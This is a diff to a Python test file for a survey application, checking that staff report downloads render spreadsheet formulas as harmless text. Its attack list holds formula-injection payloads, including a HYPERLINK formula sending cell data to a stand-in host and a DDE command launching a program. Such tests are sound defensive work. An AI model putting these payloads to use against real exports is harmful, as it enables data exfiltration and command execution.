@@ -14,6 +14,7 @@ from survey_app.extensions import db
 from survey_app.models import Action
 
 from .journey import Journey
+from .prepared_files import prepared_file
 from .test_safeguarding_every_ending import answer_everything
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click for your results")', "+1+cmd|' /C calc'!A0",
@@ -51,7 +52,7 @@ def test_every_web_download_shows_a_formula_as_text(app, client, make_round, mak
     send_all(app, slug)
     sign_in(*make_staff("worker"))
     for name in DOWNLOADS:
-        response = client.get(f"/staff/reports/{slug}/download/{name}")
+        response = prepared_file(client, f"/staff/reports/{slug}/download/{name}", f"/staff/reports/{slug}")
         assert response.status_code == 200, name
         assert_harmless(name, response.data, expect_attacks=name.startswith("responses"))
 
